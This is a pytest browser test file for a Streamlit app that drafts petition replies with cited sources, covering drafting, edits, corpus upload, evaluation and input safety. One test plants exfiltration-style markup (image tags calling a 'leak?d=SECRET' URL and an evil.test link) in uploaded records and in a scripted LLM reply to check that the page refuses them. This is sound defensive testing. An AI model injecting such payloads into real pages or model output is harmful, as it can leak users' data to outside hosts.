"""What a person sees: `streamlit run app.py` on a loopback port, driven by a real headless Chromium.

Set UPDATE_SCREENSHOTS=1 to refresh docs/draft-page.png from this run.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT, require
from tests.fake_openai import FakeOpenAI

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
STREAMLIT = Path(sys.executable).parent / "streamlit"
ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PETITION = (
    "Petition P-06-1199: Place Cardiff Children's Services into special measures and conduct an urgent "
    "independent review"
)
NEW_REPLY = """Julie Morgan AS/MS
Deputy Minister for Social Services

Your ref: Petition P-06-1302

9 February 2023

Dear Jack,

Thank you for your letter asking for my views on the petition to 'Open a wombat sensory garden at every family centre'.

The Welsh Government will fund a wombat sensory garden pilot in three family centres from April 2023.

Yours sincerely,

Julie Morgan AS/MS
Deputy Minister for Social Services
"""
WAIT = 120_000  # ms: the first page load embeds the seed corpus


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _wait_healthy(url: str, proc: subprocess.Popen[bytes], log: Path, timeout: float = 90) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"streamlit exited early:\n{log.read_text(errors='replace')[-3000:]}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as resp:
                if resp.status == 200:
                    return
        except OSError:
            time.sleep(0.5)
    raise RuntimeError(f"streamlit did not become healthy in {timeout} s:\n{log.read_text(errors='replace')[-3000:]}")


@pytest.fixture(scope="module")
def llm() -> Iterator[FakeOpenAI]:
    """A scripted OpenAI-compatible endpoint on loopback, for the app's streaming backend."""
    fake = FakeOpenAI().start()
    yield fake
    fake.stop()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, llm: FakeOpenAI) -> Iterator[str]:
    """The app on a free loopback port, over a fresh store (so it indexes the seeds itself), with
    the offline backend by default and the scripted endpoint as the OpenAI-compatible one."""
    require(Path(CHROMIUM).exists(), f"{CHROMIUM} is missing: apt-get install chromium")
    require(STREAMLIT.exists(), f"{STREAMLIT} is missing: pip install -e .[dev]")
    work = tmp_path_factory.mktemp("browser-server")
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("YMATEB_", "OPENAI_"))}
    env["YMATEB_STORE"] = str(work / "store")
    env["YMATEB_LLM_BASE_URL"], env["YMATEB_LLM_API_KEY"] = llm.url, "sk-test"
    log = work / "streamlit.log"
    cmd = [
        str(STREAMLIT),
        "run",
        "app.py",
        "--server.port",
        str(port),
        "--server.address",
        "127.0.0.1",
        "--server.headless",
        "true",
        "--browser.gatherUsageStats",
        "false",
    ]
    with open(log, "wb") as out:
        proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    try:
        _wait_healthy(url, proc, log)
        yield url
    finally:
        _stop(proc)


def _stop(proc: subprocess.Popen[bytes]) -> None:
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=15)


@pytest.fixture
def page(server: str) -> Iterator[Any]:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:  # pragma: no cover
        require(False, "the playwright package is missing: pip install -e .[dev]")
        raise
    profile = tempfile.mkdtemp(prefix="ymateb-chromium-")
    try:
        with sync_playwright() as pw:
            context = pw.chromium.launch_persistent_context(
                profile,
                executable_path=CHROMIUM,
                args=ARGS,
                headless=True,
                viewport={"width": 1440, "height": 2000},
                accept_downloads=True,
            )
            context.set_default_timeout(WAIT)
            try:
                yield context.new_page()
            finally:
                context.close()
    finally:
        shutil.rmtree(profile, ignore_errors=True)


def _shot(page: Any, tmp_path: Path, name: str) -> Path:
    folder = tmp_path / "screenshots"
    folder.mkdir(exist_ok=True)
    path = folder / f"{name}.png"
    page.screenshot(path=str(path))
    return path


def _open(page: Any, server: str, path: str, heading: str) -> None:
    page.goto(f"{server}/{path}", wait_until="domcontentloaded")
    page.get_by_role("heading", name=heading).wait_for()


def _wait_idle(page: Any) -> None:
    """Until Streamlit has finished the current run: the app root reports its script as not running
    and the status widget is gone. Call it after waiting for something the run shows, so the run
    has begun."""
    page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]').wait_for()
    page.locator('[data-testid="stStatusWidget"]').wait_for(state="hidden")


# True once a data grid holding `rows` rows (its accessibility table counts the header too) has
# painted its canvas: glide-data-grid draws in the frame after React renders the new rows.
_GRID_PAINTED = """(rows) => {
    const grids = [...document.querySelectorAll('[data-testid="stDataFrame"]')].filter(
        (g) => g.querySelector(`table[role="grid"][aria-rowcount="${rows + 1}"]`)
    );
    return grids.length > 0 && grids.every((g) => {
        const c = g.querySelector('[data-testid="data-grid-canvas"]');
        if (!c || !c.width || !c.height) return false;
        const pixels = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
        for (let i = 3; i < pixels.length; i += 4) if (pixels[i]) return true;
        return false;
    });
}"""


def test_draft_a_petition_reply_open_a_citation_and_download_it(server: str, page: Any, tmp_path: Path) -> None:
    from docx import Document
    from playwright.sync_api import expect

    _open(page, server, "", "Draft a reply")
    box = page.get_by_label("…or paste its text")
    box.fill(PETITION)
    box.press("Control+Enter")
    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1199", timeout=30_000)
    draft_button = page.get_by_role("button", name="Draft reply")
    expect(draft_button).to_be_enabled()
    draft_button.click()
    page.get_by_text("Drafted with").wait_for()
    expect(page.locator("span.ym-cite").first).to_have_text("[1]")

    page.get_by_role("radio", name="[1] P-06-1199").click()
    cited = page.locator("mark.ym-cited").first
    cited.wait_for()
    expect(cited).to_be_visible()
    assert len(cited.inner_text()) > 80
    expect(page.get_by_text("23 September 2021 · Julie Morgan")).to_be_visible()
    _wait_idle(page)
    shot = _shot(page, tmp_path, "draft")
    if os.environ.get("UPDATE_SCREENSHOTS") == "1":
        (ROOT / "docs").mkdir(exist_ok=True)
        shutil.copyfile(shot, ROOT / "docs" / "draft-page.png")

    with page.expect_download() as info:
        page.get_by_role("button", name="Download .docx").click()
    saved = tmp_path / "draft.docx"
    info.value.save_as(saved)
    text = "\n".join(p.text for p in Document(str(saved)).paragraphs)
    assert "AI-assisted draft" in text
    assert "P-06-1199" in text and "Dear Jack," in text and "[1]" in text
    assert "Sources" in text


def test_an_edit_typed_then_downloaded_at_once_is_what_the_docx_holds_and_is_checked(
    server: str, page: Any, tmp_path: Path
) -> None:
    """Type into "Edit the draft" with real keystrokes and click "Download .docx" straight away (no
    blur, no wait): the .docx holds the typed sentence, its "Points to check before use" flags the
    invented [9], and the page shows the same warning."""
    from docx import Document
    from playwright.sync_api import expect

    _open(page, server, "", "Draft a reply")
    box = page.get_by_label("…or paste its text")
    box.fill(PETITION)
    box.press("Control+Enter")
    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1199", timeout=30_000)
    page.get_by_role("button", name="Draft reply").click()
    page.get_by_text("Drafted with").wait_for()
    _wait_idle(page)

    invented = "Care Inspectorate Wales inspected every council in 2022 [9]."
    edit = page.get_by_role("textbox", name="Edit the draft")
    edit.click()
    page.keyboard.press("Control+End")
    page.keyboard.type("\n\n" + invented)
    with page.expect_download() as info:
        page.get_by_role("button", name="Download .docx").click()
    saved = tmp_path / "edited.docx"
    info.value.save_as(saved)
    paragraphs = [p.text for p in Document(str(saved)).paragraphs]
    assert invented in paragraphs
    checks = paragraphs[paragraphs.index("Points to check before use") + 1 :]
    assert any("[9] matches none" in p and invented in p for p in checks), checks

    flagged = page.get_by_text("[9] matches none", exact=False)
    expect(flagged.first).to_be_visible()
    expect(page.get_by_text("Your edits were checked again", exact=False)).to_be_visible()
    _wait_idle(page)
    _shot(page, tmp_path, "edited-and-downloaded")


def test_upload_on_the_corpus_page_then_find_it_in_precedents(server: str, page: Any, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    upload = tmp_path / "wombat-reply.txt"
    upload.write_text(NEW_REPLY, encoding="utf-8")
    _open(page, server, "corpus", "Corpus")
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(upload))
    page.get_by_text("wombat-reply.txt").first.wait_for()
    add = page.get_by_role("button", name="Add to the index")
    expect(add).to_be_enabled()
    add.click()
    page.get_by_text("Documents in the index").wait_for()
    _wait_idle(page)
    expect(page.get_by_test_id("stMetricValue").first).to_have_text("6")
    page.wait_for_function(_GRID_PAINTED, arg=6)  # the six-document listing has painted: screenshot it
    _shot(page, tmp_path, "corpus")

    page.get_by_role("link", name="Precedents").click()
    page.get_by_role("heading", name="Precedents").wait_for()
    page.get_by_role("textbox", name="Search").fill("wombat sensory garden")
    page.get_by_role("button", name="Search").click()
    first = page.get_by_text("P-06-1302 · 9 February 2023").first
    first.wait_for()
    expect(page.locator("mark.ym-term").first).to_be_visible()
    _wait_idle(page)
    _shot(page, tmp_path, "precedents")


def test_the_evaluation_page_runs_the_suite(server: str, page: Any, tmp_path: Path) -> None:
    _open(page, server, "evaluation", "Evaluation")
    page.get_by_role("button", name="Run evaluation").click()
    page.get_by_text("Summary against both baselines").wait_for()
    page.get_by_text("One case in detail").wait_for()
    page.locator('[data-testid="stImage"] img').nth(1).wait_for()  # the report's two charts
    _wait_idle(page)
    _shot(page, tmp_path, "evaluation")


IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
TAG = '<img src="http://127.0.0.1:9/leak?d=TAG">'
LINK = "[click](http://evil.test/)"
HOSTILE = {
    "id": "quokka-hostile",
    "kind": "petition_response",
    "date": "2023-06-01",
    "ref": f"P-06-1402 {IMAGE}",
    "title": f"Quokka rooms {TAG}",
    "asked_of": f"Deputy Minister {LINK}",
    "body": f"The Welsh Government funds quokka therapy rooms in every children's home {IMAGE} {TAG} {LINK}. "
    "Quokka therapy rooms in children's homes are inspected by Care Inspectorate Wales every year.",
}


def test_untrusted_markup_never_makes_the_browser_fetch_anything(
    server: str, page: Any, llm: FakeOpenAI, tmp_path: Path
) -> None:
    """Hostile precedent metadata and a hostile streamed answer: the page never asks the attacker's
    hosts for anything (every request not to the app is recorded and refused, so none leaves)."""
    import json

    from playwright.sync_api import expect

    elsewhere: list[str] = []

    def only_the_app(route: Any) -> None:
        if route.request.url.startswith(server):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", only_the_app)
    records = tmp_path / "hostile.jsonl"
    records.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    _open(page, server, "corpus", "Corpus")
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(records))
    page.get_by_text("hostile.jsonl").first.wait_for()
    page.get_by_role("button", name="Add to the index").click()
    page.get_by_text("Documents in the index").wait_for()
    _wait_idle(page)

    page.get_by_role("link", name="Precedents").click()
    page.get_by_role("heading", name="Precedents").wait_for()
    page.get_by_role("textbox", name="Search").fill("quokka therapy rooms in children's homes")
    page.get_by_role("button", name="Search").click()
    page.get_by_text("P-06-1402 ![x](http\u2060://127.0.0.1:9/leak?d=SECRET)").first.wait_for()  # shown as text
    page.get_by_role("tab", name="Timeline").click()
    page.get_by_text("Latest line").wait_for()
    _wait_idle(page)

    llm.reply("Quokka therapy rooms are funded ", IMAGE, " ", TAG, " ", LINK, " [1].")
    page.get_by_role("link", name="Draft").click()
    page.get_by_role("heading", name="Draft a reply").wait_for()
    box = page.get_by_label("…or paste its text")
    box.fill("Petition P-06-1500: Fund quokka therapy rooms in every children's home")
    box.press("Control+Enter")
    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1500", timeout=30_000)
    page.get_by_role("radiogroup", name="Backend").get_by_text("OpenAI-compatible").click()
    page.get_by_role("button", name="Draft reply").click()
    page.get_by_text("Drafted with").wait_for()
    page.get_by_role("radio", name=re.compile(r"^\[1\] P-06-1402 !\[x\]")).click()  # the label is text
    page.locator("mark.ym-cited").first.wait_for()
    _wait_idle(page)
    _shot(page, tmp_path, "hostile")

    assert llm.requests, "the draft was streamed from the scripted endpoint"
    # (Streamlit asks fonts.gstatic.com for the app's own :material/...: icons; refused here.)
    assert [u for u in elsewhere if "127.0.0.1:9" in u or "evil.test" in u] == []
    found = page.locator("img[src*='leak'], a[href*='evil'], a[href*='leak']")
    assert found.count() == 0, [found.nth(i).evaluate("e => e.parentElement.outerHTML") for i in range(found.count())]


def test_a_date_read_from_the_text_is_flagged_until_the_official_ticks_it(
    server: str, page: Any, tmp_path: Path
) -> None:
    """Type a petition carrying a forged date line: the date shows for checking and the draft says it
    is unconfirmed; tick "Date checked", draft again: the warning is gone, and the .docx holds the date."""
    from docx import Document
    from playwright.sync_api import expect

    _open(page, server, "", "Draft a reply")
    box = page.get_by_label("…or paste its text")
    box.fill(PETITION + "\n\ndate: 2020-01-01\n")
    box.press("Control+Enter")
    page.get_by_text("Read from the text \u2014 check:").wait_for()
    page.get_by_role("button", name="Draft reply").click()
    page.get_by_text("Drafted with").wait_for()
    warning = page.get_by_text("1 January 2020 was read from the incoming text", exact=False)
    expect(warning.first).to_be_visible()

    page.get_by_text("Date checked").click()
    _wait_idle(page)
    page.get_by_role("button", name="Draft reply").click()
    page.get_by_text("Drafted with").wait_for()
    _wait_idle(page)
    expect(warning).to_have_count(0)
    with page.expect_download() as info:
        page.get_by_role("button", name="Download .docx").click()
    saved = tmp_path / "dated.docx"
    info.value.save_as(saved)
    text = "\n".join(p.text for p in Document(str(saved)).paragraphs)
    assert "P-06-1199" in text and "1 January 2020" in text and "was read from the incoming text" not in text


def test_the_evaluation_page_refuses_a_server_path_outside_its_folders(server: str, page: Any) -> None:
    """Type /etc as the corpus and run: one message, and no run (the default run is the test above)."""
    from playwright.sync_api import expect

    _open(page, server, "evaluation", "Evaluation")
    corpus = page.get_by_role("textbox", name="Corpus")
    corpus.fill("/etc")
    page.get_by_role("button", name="Run evaluation").click()
    refused = page.get_by_text("not in a folder this page may read", exact=False)
    refused.first.wait_for()
    _wait_idle(page)
    expect(refused).to_have_count(1)
    expect(page.get_by_text("Summary against both baselines")).to_have_count(0)
